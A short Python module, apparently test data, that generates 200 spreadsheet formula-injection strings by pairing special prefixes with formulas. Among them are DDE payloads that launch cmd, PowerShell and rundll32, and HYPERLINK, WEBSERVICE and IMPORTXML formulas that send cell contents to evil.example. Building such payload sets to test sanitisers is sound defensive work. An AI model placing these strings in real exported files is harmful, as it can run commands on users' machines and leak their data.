"""Two hundred texts that a spreadsheet could take for a formula, as people have tried them."""

from __future__ import annotations

from itertools import product

DANGEROUS = frozenset("=+-@\t\r\n\0＝＋－＠")
_BEGINNINGS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", "'=", "''+", "=-", "+@",
    "@@", "-\t", "\0", "\t",
)  # fmt: skip
_FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"!A0")',
    'HYPERLINK("https://evil.example/?x="&A1&B1,"The plan")',
    'WEBSERVICE("https://evil.example/"&A1)',
    "SUM(1+9)*cmd|' /C powershell IEX(1)'!A0",
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "rundll32|'URL.dll,OpenURL evil.example'!A",
    "A1",
    '"quoted", with a comma; and a semicolon',
)
PAYLOADS = [start + formula for start, formula in product(_BEGINNINGS, _FORMULAS)]
